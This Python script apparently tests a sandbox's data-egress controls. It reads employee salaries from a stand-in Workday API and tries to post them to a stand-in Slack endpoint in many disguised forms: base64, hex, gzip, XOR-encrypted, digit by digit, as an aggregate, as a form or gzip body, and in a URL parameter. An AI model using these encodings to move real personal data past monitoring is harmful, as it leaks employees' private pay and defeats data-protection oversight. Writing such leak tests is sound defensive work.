"""Sandboxed code that reads what people earn and tries every way it can think of to get something of it into Slack."""

import base64
import gzip
import json
import secrets
import statistics
from collections.abc import Iterator

import requests

WORKDAY = "https://api.workday.test/v1"
SLACK = "https://slack.test/api/chat.postMessage"


def say(step: str, **seen: object) -> None:
    """Tell the orchestrator what was seen, one JSON object a line."""
    print(json.dumps({"step": step, **seen}), flush=True)


def body(response: requests.Response) -> object:
    """Return a response's JSON, or its text where it is none."""
    try:
        return response.json()
    except ValueError:
        return response.text


def ways(pay: list[int]) -> Iterator[tuple[str, str]]:
    """Yield texts that carry pay more or less openly, each with a name."""
    plain = f"Top earner makes {pay[0]}"
    pad = secrets.token_bytes(len(plain))
    encrypted = bytes(a ^ b for a, b in zip(plain.encode(), pad, strict=True))
    yield "plain", plain
    yield "base64", base64.b64encode(plain.encode()).decode()
    yield "hex", plain.encode().hex()
    yield "gzip and base64", base64.b64encode(gzip.compress(plain.encode())).decode()
    yield "encrypted", base64.b64encode(encrypted).decode()
    yield from (("one character at a time", digit) for digit in str(pay[0]))
    yield "an average", f"On average people make about {round(statistics.mean(pay), -3)}"
    yield "a comparison", "Grace makes more than Martin"
    yield "an unrelated text", "Lunch at noon?"


with requests.Session() as http:
    employees = http.get(f"{WORKDAY}/employees").json()["employees"]
    say("pay was read", salaries=[employee["salary"] for employee in employees])
    review = http.get(f"{WORKDAY}/employees/{employees[0]['id']}/review")
    say("a review was read", status=review.status_code)
    salaries = [int(employee["salary"]) for employee in employees]
    for channel in ("#general", "#hr-reviews"):
        for how, text in ways(salaries):
            answer = http.post(SLACK, json={"channel": channel, "text": text})
            say("posted", how=how, channel=channel, status=answer.status_code, body=body(answer))
        form = http.post(SLACK, data={"channel": channel, "text": f"Top earner makes {salaries[0]}"})
        say("posted", how="a form", channel=channel, status=form.status_code, body=body(form))
        packed = gzip.compress(json.dumps({"channel": channel, "text": f"Top: {salaries[0]}"}).encode())
        headers = {"Content-Type": "application/json", "Content-Encoding": "gzip"}
        answer = http.post(SLACK, data=packed, headers=headers)
        say("posted", how="a gzip body", channel=channel, status=answer.status_code, body=body(answer))
        address = http.post(f"{SLACK}?top={salaries[0]}", json={"channel": channel, "text": "see the address"})
        say("posted", how="the address", channel=channel, status=address.status_code, body=body(address))
